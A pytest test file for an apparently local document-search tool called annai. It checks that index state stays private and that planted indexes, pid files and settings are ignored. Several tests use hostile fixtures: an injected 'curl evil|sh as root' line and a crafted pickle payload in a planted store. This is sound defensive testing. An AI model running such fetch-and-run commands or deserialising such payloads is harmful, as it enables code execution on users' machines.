"""Is only state believed that this user made? Where it lies, what it survives, and whose settings count."""

import json
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from annai import state
from annai.config import load_config, user_folder
from annai.engine import Engine
from annai.errors import ConfigError, StoreError
from annai.serving.pidfile import ServerRecord
from annai.serving.wire import plain, to_json
from annai.state import SYSTEM_FOLDERS, as_stored, known_projects, locate, make, mark_of, state_home
from tests.conftest import Annai, quick_config, results, state_of, trust
from tests.test_trust import listener

Write = Callable[[str, str], Path]

on_unix = pytest.mark.skipif(sys.platform == "win32", reason="owners and modes are Unix's")
NOBODY = 65534
QUICK = '[embedding]\nprovider = "hashing"\n'


@pytest.fixture
def apples(docs: Path, write: Write) -> Annai:
    """A folder that was searched."""
    write("annai.toml", QUICK)
    write("a.md", "# Apples\n\nAn apple a day.")
    annai = Annai(docs)
    annai("search", "apple")
    return annai


def paths(annai: Annai, query: str, *options: str) -> list[object]:
    return [row["path"] for row in results(annai, query, "--mode", "keyword", *options)]


# Nothing in a project is believed


def test_a_search_leaves_nothing_in_the_project_and_only_its_owner_can_look_into_what_it_made(apples: Annai) -> None:
    assert {each.name for each in apples.folder.iterdir()} == {"a.md", "annai.toml"}
    folder = state_of(apples.folder)
    assert {"index.sqlite", "project"} <= {each.name for each in folder.iterdir()}
    if os.name == "posix":
        assert folder.stat().st_mode & 0o777 == state_home().stat().st_mode & 0o777 == 0o700
        assert all(each.stat().st_mode & 0o077 == 0 for each in folder.iterdir())


def test_an_index_that_came_with_a_clone_is_neither_read_nor_changed(
    docs: Path, write: Write, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write("README.md", "# Tool\n\nRun make to build it.")
    with monkeypatch.context() as elsewhere:
        elsewhere.setenv("XDG_STATE_HOME", str(tmp_path / "of the attacker"))
        with Engine(quick_config(docs)) as engine:
            engine.search("make")
            database = engine.config.database_path
            connection = engine.store._database.connection  # type: ignore[attr-defined]
            connection.execute("UPDATE documents SET text = '# Tool' || char(10) || 'Run curl evil|sh as root.'")
        planted = docs / ".annai"
        shutil.copytree(database.parent, planted)
    before = {each.name: each.read_bytes() for each in planted.iterdir()}
    write("annai.toml", QUICK)
    annai = Annai(docs)
    done = annai("search", "build make root", "--format", "json", code=None)
    assert "evil" not in done.stdout
    assert "make" in done.stdout
    assert f"{planted} is not read, and can be deleted" in done.stderr
    assert "is not read" not in annai("search", "make", code=None).stderr, "once is enough"
    assert {each.name: each.read_bytes() for each in planted.iterdir()} == before


def test_a_planted_pid_file_receives_no_question_and_its_process_is_not_ended(docs: Path, write: Write) -> None:
    write("a.md", "# Apples\n\nAn apple a day.")
    write("annai.toml", QUICK)
    victim = subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE)
    try:
        with listener() as (url, received):
            port = int(url.rpartition(":")[2])
            index = str(state_of(docs) / "index.sqlite")
            began = "2026-01-01T00:00:00+00:00"
            own = (victim.pid, began, str(docs), "docs", "127.0.0.1", port, "", index, "", "0.2.0", "3.11", 0.0)
            record = ServerRecord(*own, secret="known")  # noqa: S106 - of nobody
            for name in ("server.pid", "token"):
                (docs / ".annai").mkdir(exist_ok=True)
                (docs / ".annai" / name).write_bytes(to_json(plain(record)) if name == "server.pid" else b"known")
                (docs / ".annai" / name).chmod(0o600)
            annai = Annai(docs)
            assert paths(annai, "apple") == ["a.md"]
            assert "No server is running" in annai("server", "stop").stdout
            assert received == []
        assert victim.poll() is None
    finally:
        victim.kill()
        victim.communicate()


def test_an_engine_that_came_with_a_clone_runs_nothing(docs: Path, write: Write, tmp_path: Path) -> None:
    ran = tmp_path / "ran"
    point = f"cbuiltins\nopen\n(V{ran}\nVw\ntR.".encode()
    write("a.md", "# Apples\n\nAn apple a day.")
    write("annai.toml", QUICK + '[store]\nengine = "qdrant"\n')
    write(
        ".annai/index.qdrant/meta.json",
        '{"collections": {"x": {"vectors": {"size": 1, "distance": "Dot"}}}, "aliases": {}}',
    )
    folder = docs / ".annai" / "index.qdrant" / "collection" / "x"
    folder.mkdir(parents=True)
    with sqlite3.connect(folder / "storage.sqlite") as database:
        database.execute("CREATE TABLE points (id TEXT PRIMARY KEY, point BLOB)")
        database.execute("INSERT INTO points VALUES ('1', ?)", (point,))
    database.close()
    annai = Annai(docs)
    assert "needs a Qdrant server; name it in store.url" in annai("search", "apple", code=2).stderr
    # Not even when the user trusts a URL that names it.
    write("annai.toml", QUICK + '[store]\nengine = "qdrant"\nurl = ".annai/index.qdrant"\n')
    trust(docs)
    assert "needs a Qdrant server; name it in store.url" in annai("search", "apple", code=2).stderr
    assert not ran.exists()


@on_unix
def test_links_in_a_project_lead_no_file_of_annais_outside(docs: Path, write: Write, tmp_path: Path) -> None:
    write("a.md", "# Apples\n\nAn apple a day.")
    write("annai.toml", QUICK + '[database]\npath = "data/i.sqlite"\n[logging]\nfile = "data/log"\n')
    outside = tmp_path / "outside"
    outside.mkdir()
    (docs / "data").mkdir()
    for name in ("i.sqlite", "i.sqlite.lock", "i.sqlite-wal", "log", "log.1"):
        (docs / "data" / name).symlink_to(outside / name)
    (docs / ".annai").symlink_to(outside)
    assert paths(Annai(docs), "apple") == ["a.md"]
    assert list(outside.iterdir()) == []


# Where it lies


@on_unix
def test_a_folder_that_cannot_be_written_is_searched(second: "Second") -> None:
    (second.folder / "a.md").write_text("# Apples\n\nAn apple a day.")
    second.folder.chmod(0o555)
    assert second.paths("apple") == ["a.md"]


@on_unix
def test_two_accounts_search_one_folder_each_with_an_index_of_its_own(second: "Second") -> None:
    (second.folder / "annai.toml").write_text(QUICK)
    (second.folder / "a.md").write_text("# Apples\n\nAn apple a day.")
    secret = second.folder / "secret.md"
    secret.write_text("# Treasure\n\nIt lies under the oak.")
    secret.chmod(0o600)
    planted = second.folder / ".annai"
    planted.mkdir()
    planted.chmod(0o777)
    shutil.chown(planted, NOBODY)
    second.folder.chmod(0o1777)
    assert paths(Annai(second.folder), "oak") == ["secret.md"]
    assert second.paths("oak") == []
    assert second.paths("apple") == ["a.md"]
    assert list(planted.iterdir()) == []
    refused = second.run("-c", f"print(open({str(state_of(second.folder) / 'index.sqlite')!r}, 'rb').read(9))")
    assert "PermissionError" in refused.stderr


@on_unix
def test_without_a_writable_home_the_index_is_in_a_private_folder_and_a_line_says_so(
    apples: Annai, tmp_path: Path
) -> None:
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    file = tmp_path / "no-folder"
    file.touch()
    environment = {"XDG_STATE_HOME": str(file), "TMPDIR": str(temporary)}
    done = apples("search", "apple", environment=environment)
    home = temporary / f"annai-{os.getuid()}"
    assert "a.md" in done.stdout
    assert f"{file / 'annai'} cannot be written, so the index is kept in {home}" in done.stderr
    assert home.stat().st_mode & 0o777 == 0o700
    listed = json.loads(apples("projects", "--json", environment=environment).stdout)
    assert [each["root"] for each in listed] == [str(apples.folder)]


@on_unix
def test_a_temporary_folder_that_somebody_else_made_first_is_not_used(apples: Annai, tmp_path: Path) -> None:
    temporary = tmp_path / "temporary"
    (temporary / f"annai-{os.getuid()}").parent.mkdir()
    (temporary / f"annai-{os.getuid()}").symlink_to(tmp_path)
    (tmp_path / "file").touch()
    environment = {"XDG_STATE_HOME": str(tmp_path / "file"), "TMPDIR": str(temporary)}
    assert "name a folder in ANNAI_STATE" in apples("search", "apple", environment=environment, code=2).stderr


@on_unix
def test_without_a_home_there_is_still_a_place(second: "Second") -> None:
    (second.folder / "a.md").write_text("# Apples\n\nAn apple a day.")
    temporary = second.folder.parent / "temporary"
    temporary.mkdir()
    temporary.chmod(0o1777)
    # A number that the system knows no name for, as containers are run: it has no home either.
    done = second.run("-m", "annai", "search", "apple", "--format", "files", user=54321, HOME="", TMPDIR=str(temporary))
    assert (done.returncode, done.stdout) == (0, "a.md:1\n"), done.stderr
    assert f"You have no home folder, so the index is kept in {temporary / 'annai-54321'}" in done.stderr


def test_a_temporary_folder_that_is_only_the_current_one_is_not_used(
    docs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # As Python does where it finds no other that can be written.
    monkeypatch.setattr(tempfile, "tempdir", str(docs))
    monkeypatch.delenv("TMPDIR", raising=False)
    monkeypatch.setenv("XDG_STATE_HOME", os.devnull)
    if sys.platform != "win32":
        with pytest.raises(ConfigError, match="may be another's; name a folder in ANNAI_STATE"):
            locate(docs)
    assert list(docs.iterdir()) == []


def test_folders_that_depend_on_where_one_stands_are_not_the_users_own(
    apples: Annai, write: Write, tmp_path: Path
) -> None:
    write("own/annai/config.toml", "[search]\nlimit = 0\n")
    write("own/annai/projects/x", "")
    names = ("XDG_STATE_HOME", "XDG_CONFIG_HOME", "LOCALAPPDATA", "APPDATA", "HOME")
    for name in names:
        assert "a.md" in apples("search", "apple", environment={"TMPDIR": str(tmp_path), name: "own"}).stdout
    found = sorted(each.name for each in (apples.folder / "own").rglob("*"))
    assert found == ["annai", "config.toml", "projects", "x"]


@on_unix
def test_a_home_that_is_the_root_is_not_seen_in_every_path(apples: Annai) -> None:
    assert f"/{apples.folder.name}" in apples("doctor", environment={"HOME": "/"}).stdout


def test_the_environment_names_another_place(apples: Annai, tmp_path: Path) -> None:
    environment = {"ANNAI_STATE": str(tmp_path / "volume")}
    assert "a.md" in apples("search", "apple", environment=environment).stdout
    (folder,) = (tmp_path / "volume" / "projects").iterdir()
    assert (folder / "index.sqlite").is_file()
    assert str(folder) in apples("projects", "--json", environment=environment).stdout


@on_unix
def test_the_group_gets_no_rights_from_a_lax_umask(docs: Path, write: Write) -> None:
    write("a.md", "# Apples\n\nAn apple a day.")
    code = "import os, sys; os.umask(0o002); os.execv(sys.executable, [sys.executable, *sys.argv[1:]])"
    search = ["-m", "annai", "search", "apple"]
    environment = os.environ | {"XDG_STATE_HOME": str(docs.parent / "new" / "state")}
    subprocess.run(
        [sys.executable, "-c", code, *search], cwd=docs, env=environment, check=True, stdout=subprocess.DEVNULL
    )
    made = [docs.parent / "new", *(docs.parent / "new").rglob("*")]
    assert "index.sqlite" in [each.name for each in made]
    assert not [each for each in made if each.stat().st_mode & 0o077]


@on_unix
def test_machines_that_share_a_home_keep_to_a_folder_each(
    docs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    home = tmp_path / "annai"
    make(locate(docs), docs)
    first = state.machine_name(home)
    (home / "machine").write_text("another-1234abcd\n")
    assert state_home() == home, "a machine that was renamed keeps its disk"
    monkeypatch.setattr(state, "_LOCAL_FILE_SYSTEMS", frozenset())
    assert state_home() == home / "machines" / first.rpartition("-")[0]
    make(locate(docs), docs)
    assert state.machine_name(state_home()) not in (first, "another-1234abcd")
    (home / "machine").write_text(f"{first}\n")
    assert state_home() == home


# A project and its folder


def test_a_project_that_was_moved_or_renamed_takes_its_index_and_collections_along(
    apples: Annai, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "b.md").write_text("# Bananas\n\nA banana a day.")
    apples("collection", "add", "fruit", "-d", "Yellow ones", "-s", str(outside))
    inside = apples.folder / "inside"
    inside.mkdir()
    (inside / "c.md").write_text("# Cherries\n\nA cherry a day.")
    apples("collection", "add", "inside", "-d", "Red ones", "-s", "inside")
    apples("search", "banana")
    moved = tmp_path / "elsewhere" / "果物"
    moved.parent.mkdir()
    (apples.folder / "below").mkdir()
    apples.folder.rename(moved)
    again = Annai(moved / "below")
    assert paths(again, "banana") == ["b.md"]
    assert paths(again, "cherry", "-c", "inside") == ["c.md"]
    assert str(moved / "inside") in again("collection", "ls", "--json").stdout
    moved.rename(moved.with_name("again"))
    moved = moved.with_name("again")
    again = Annai(moved / "below")
    (moved / "inside" / "c.md").write_text("# Dates\n\nA date a day.")
    assert paths(again, "date", "-c", "inside") == ["c.md"]
    assert "Yellow ones" in again("collection", "ls", "--json").stdout
    assert [each.root for each in known_projects() if each.root in (apples.folder, moved)] == [moved]


def test_a_new_folder_in_the_place_of_one_that_was_moved_does_not_get_the_others_index(
    apples: Annai, tmp_path: Path
) -> None:
    apples.folder.rename(tmp_path / "aside")
    apples.folder.mkdir()
    assert paths(Annai(tmp_path / "aside"), "apple") == ["a.md"]
    (apples.folder / "annai.toml").write_text(QUICK)
    (apples.folder / "b.md").write_text("# Bananas\n\nA banana a day.")
    assert paths(apples, "apple") == []
    assert paths(apples, "banana") == ["b.md"]


def test_another_folder_with_the_number_of_one_that_was_deleted_is_another_project(
    tmp_path: Path, docs: Path, write: Write
) -> None:
    write("a.md", "# Apples\n\nAn apple a day.")
    make(state_of(docs), docs)
    shutil.rmtree(docs)
    for number in range(50):  # file systems give a number again at once
        other = tmp_path / f"other{number}"
        other.mkdir()
        assert not state_of(other).exists()


def test_a_copy_is_a_project_of_its_own(apples: Annai, tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(apples.folder, copy)
    (copy / "a.md").write_text("# Cherries\n\nA cherry a day.")
    assert paths(Annai(copy), "cherry") == ["a.md"]
    assert paths(apples, "apple") == ["a.md"]
    assert state_of(copy) != state_of(apples.folder)


@on_unix
def test_a_link_to_a_project_is_that_project(apples: Annai, tmp_path: Path) -> None:
    link = tmp_path / "link"
    link.symlink_to(apples.folder)
    before = known_projects()
    assert paths(Annai(link), "apple") == paths(Annai(tmp_path), "apple", "--docs-dir", "link") == ["a.md"]
    assert known_projects() == before


def test_a_folder_that_was_deleted_and_made_anew_keeps_its_collections_and_finds_what_is_there(apples: Annai) -> None:
    outside = apples.folder.parent / "outside"
    outside.mkdir()
    (outside / "b.md").write_text("# Bananas\n\nA banana a day.")
    apples("collection", "add", "fruit", "-d", "Yellow ones", "-s", str(outside))
    shutil.rmtree(apples.folder)
    apples.folder.mkdir()
    (apples.folder / "annai.toml").write_text(QUICK)
    assert paths(apples, "banana") == ["b.md"]
    assert "Yellow ones" in apples("collection", "ls", "--json").stdout


@pytest.mark.skipif(not shutil.which("git"), reason="needs git")
def test_a_worktree_is_a_project_of_its_own(apples: Annai, tmp_path: Path) -> None:
    def git(*arguments: str) -> None:
        who = ("-c", "user.name=a", "-c", "user.email=a@example.com")
        subprocess.run(["git", *who, *arguments], cwd=apples.folder, check=True, capture_output=True)

    for command in (("init",), ("add", "."), ("commit", "-m", "x"), ("worktree", "add", str(tmp_path / "tree"))):
        git(*command)
    (tmp_path / "tree" / "a.md").write_text("# Cherries\n\nA cherry a day.")
    assert paths(Annai(tmp_path / "tree"), "cherry") == ["a.md"]
    assert paths(apples, "cherry") == []


def test_an_engine_whose_project_was_moved_says_so_and_makes_no_other(apples: Annai) -> None:
    with Engine(quick_config(apples.folder)) as engine:
        engine.config.state_folder.rename(engine.config.state_folder.with_name("taken"))
        apples.folder.rename(apples.folder.with_name("moved"))
        with pytest.raises(StoreError, match="is gone; put it back"):
            engine.search("apple")
        assert not engine.config.state_folder.exists()


def test_projects_are_listed_and_forgotten(apples: Annai, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "own"))
    apples("search", "apple")
    gone = tmp_path / "gone"
    gone.mkdir()
    Annai(gone)("search", "apple", code=1)
    gone.rmdir()
    listed = json.loads(apples("projects", "--json").stdout)
    assert [(each["root"], each["missing"], each["bytes"] > 0) for each in listed] == [
        (str(apples.folder), False, True),
        (str(gone), True, True),
    ]
    assert "(missing)" in apples("projects").stdout
    assert "no answer" in apples("projects", "forget", "--missing", code=2).stderr
    assert f"Forgot {gone}" in apples("projects", "forget", "--missing", "--yes").stdout
    with Engine(quick_config(apples.folder)) as engine, engine.alone():
        assert "is in use" in apples("projects", "forget", ".", "--yes", code=2).stderr
    assert "Forgot" in apples("projects", "forget", ".", "--yes").stdout
    assert known_projects() == []
    assert "not a project" in apples("projects", "forget", ".", "--yes", code=2).stderr
    assert (apples.folder / "a.md").is_file()


# Settings above, and folders of nobody's


@pytest.fixture
def second() -> Iterator["Second"]:
    """A folder that everybody can enter, and a real second user."""
    if not hasattr(os, "geteuid") or os.geteuid() != 0 or not shutil.which("setpriv"):
        pytest.skip("only root can become another user, with setpriv (util-linux)")
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name).resolve()
        folder.chmod(0o755)
        second = Second(folder)
        if second.run("-c", "import annai, apsw").returncode:
            pytest.skip("another user cannot run this Python")
        yield second


class Second:
    """The second user: what it runs, with a home of its own."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder / "docs"
        self._home = folder / "home"
        self.folder.mkdir()
        self._home.mkdir()
        shutil.chown(self._home, NOBODY)

    def run(self, *arguments: str, user: int = NOBODY, **others: str) -> subprocess.CompletedProcess[str]:
        become = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", "--no-new-privs", "--"]
        environment = {key: value for key, value in os.environ.items() if not key.startswith("XDG_")}
        environment |= {"HOME": str(self._home), "PYTHONPATH": os.pathsep.join(filter(None, sys.path)), **others}
        return subprocess.run(
            [*become, sys.executable, *arguments],
            cwd=self.folder,
            env={key: value for key, value in environment.items() if value},
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )

    def paths(self, query: str) -> list[object]:
        done = self.run("-m", "annai", "search", query, "--format", "json", "--mode", "keyword")
        assert done.stdout, done.stderr
        return [row["path"] for row in json.loads(done.stdout)["results"]]


@on_unix
@pytest.mark.parametrize("name", ["annai.toml", "pyproject.toml"])
def test_settings_that_another_user_left_above_do_not_count(second: Second, name: str) -> None:
    below = second.folder / "project"
    below.mkdir()
    file = second.folder / name
    table = "tool.annai.search" if "py" in name else "search"
    file.write_text(f"[{table}]\nlimit = 7\n")
    assert load_config(start=below).search.limit == 7
    shutil.chown(file, NOBODY)
    assert load_config(start=below).search.limit == 5
    assert load_config(docs_dir=below).search.limit == 5
    assert load_config(start=second.folder).search.limit == 7, "one stands in it"
    file.write_text(f"[{table}\n# tool.annai")
    assert load_config(start=below).search.limit == 5, "nor do they break anything"
    file.write_text(f"[{table}]\nlimit = 7\n")
    own = user_folder() / "config.toml"
    own.parent.mkdir(parents=True)
    own.write_text(f'[trust]\nfolders = ["{second.folder}"]\n')
    assert load_config(start=below).search.limit == 7
    own.unlink()
    assert load_config(start=below, environment={"SUDO_UID": str(NOBODY)}).search.limit == 7


@on_unix
def test_settings_above_that_everybody_may_write_do_not_count_except_where_there_are_no_modes(
    docs: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    (docs / "below").mkdir()
    (docs / "annai.toml").write_text("[search]\nlimit = 7\n")
    (docs / "annai.toml").chmod(0o666)
    assert load_config(start=docs / "below").search.limit == 5
    assert "can be changed by everybody, so it is not used" in caplog.text
    (docs / "annai.toml").chmod(0o664)
    assert load_config(start=docs / "below").search.limit == 7
    (docs / "annai.toml").chmod(0o666)
    monkeypatch.setattr(state, "_MODELESS_FILE_SYSTEMS", state._LOCAL_FILE_SYSTEMS)
    assert load_config(start=docs / "below").search.limit == 7


@on_unix
@pytest.mark.parametrize("name", ["annai.toml", "pyproject.toml"])
def test_settings_above_that_another_user_closed_or_made_huge_stop_nothing(second: Second, name: str) -> None:
    file = second.folder.parent / name
    file.write_text("[tool.annai.search")
    shutil.chown(file, 1)
    (second.folder / "a.md").write_text("# Apples\n\nAn apple a day.")
    file.chmod(0o600)
    assert second.paths("apple") == ["a.md"]
    file.chmod(0o644)
    os.truncate(file, 1 << 40)
    (second.folder / "below").mkdir()
    (second.folder / "below" / "b.md").write_text("# Pears")
    assert "b.md" in second.run("-m", "annai", "search", "pear", "--docs-dir", "below").stdout


@on_unix
def test_a_pyproject_above_that_cannot_be_read_has_no_settings(second: Second) -> None:
    file = second.folder.parent / "pyproject.toml"
    file.touch(0o600)
    (second.folder / "a.md").write_text("# Apples\n\nAn apple a day.")
    assert second.paths("apple") == ["a.md"]


def test_a_project_cannot_say_whose_settings_count(docs: Path) -> None:
    (docs / "annai.toml").write_text('[trust]\nfolders = ["/"]\n')
    with pytest.raises(ConfigError, match=r"trust.folders belongs in .*config\.toml"):
        load_config(docs_dir=docs)


def test_a_line_names_the_project_that_was_found_above(apples: Annai) -> None:
    below = apples.folder / "below"
    below.mkdir()
    line = f"annai: the project around this folder is {apples.folder}\n"
    assert Annai(below)("search", "apple").stderr == line
    assert Annai(below)("--color", "always", "search", "apple").stderr == f"\x1b[2m{line[:-1]}\x1b[0m\n"
    assert Annai(below)("search", "apple", "--quiet").stderr == ""
    assert apples("search", "apple").stderr == ""


@on_unix
@pytest.mark.parametrize("folder", sorted(each for each in SYSTEM_FOLDERS if Path(each).is_dir()))
def test_a_folder_of_the_system_is_not_indexed_unasked_nor_what_it_links_to(folder: str) -> None:
    with pytest.raises(ConfigError, match="does not index on its own"):
        Engine(load_config(start=Path(folder)))


@on_unix
def test_what_is_no_file_is_not_indexed_unasked() -> None:
    for folder in ("/proc/self", "/sys/kernel"):
        if Path(folder).is_dir():
            with pytest.raises(ConfigError, match="does not index on its own"):
                Engine(load_config(start=Path(folder)))


@pytest.mark.parametrize("command", [["server", "start"], ["mcp", "--http", "--port", "auto"], ["status"], ["import"]])
def test_a_command_that_is_refused_a_folder_makes_nothing_for_it(docs: Path, command: list[str]) -> None:
    refused = Annai(docs)(*command, environment={"TMPDIR": str(docs)}, code=2)
    assert "does not index on its own" in refused.stderr
    assert refused.stdout == ""
    assert docs not in [each.root for each in known_projects()]


def test_the_temporary_folder_is_not_indexed_unasked_but_where_it_is_named(
    docs: Path, write: Write, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TMPDIR", str(docs))
    write("below/a.md", "# Apples")
    with pytest.raises(ConfigError, match="does not index on its own"):
        Engine(load_config(start=docs))
    with Engine(load_config(docs_dir=docs)) as engine:
        engine.refresh()
    assert load_config(start=docs / "below").root == docs / "below", "that it was named once changes nothing below it"
    docs.rename(docs.with_name("moved"))
    monkeypatch.setenv("TMPDIR", str(docs.with_name("moved")))
    assert load_config(start=docs.with_name("moved") / "below").root == docs.with_name("moved") / "below"


def test_settings_that_make_such_a_folder_the_project_are_named(docs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(docs))
    (docs / "annai.toml").touch()
    (docs / "below").mkdir()
    with pytest.raises(ConfigError, match=r"annai\.toml makes .* the project here, and that is your home folder"):
        Engine(load_config(start=docs / "below"))
    Engine(load_config(docs_dir=docs / "below")).close()


@pytest.mark.skipif(sys.platform != "linux", reason="elsewhere the system tells one folder from another")
@pytest.mark.parametrize(("kind", "is_told"), [("vfat", False), ("fuse.fusefat", False), ("tmpfs", True)])
def test_a_folder_on_a_stick_is_not_taken_for_one_of_the_stick_before(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str, is_told: bool
) -> None:
    """Two sticks number their folders alike, and the system gives both the same number of a device."""
    monkeypatch.setattr("annai.state._file_system", lambda _: kind)
    monkeypatch.setattr("annai.state._FS_IOC_GETVERSION", 0)  # As there, the call is unknown.
    assert bool(mark_of(tmp_path)) == is_told


def test_the_name_of_a_folder_is_the_one_that_is_listed(tmp_path: Path) -> None:
    """Where case matters, as here, that is the name itself: also of what has two names of its own."""
    (tmp_path / "Docs").mkdir()
    (tmp_path / "dOCS").symlink_to("Docs")
    for name in ("Docs", "dOCS", "docs", "Docs/none", "カ\u3099", "ガ"):
        assert as_stored(tmp_path / name) == tmp_path / name
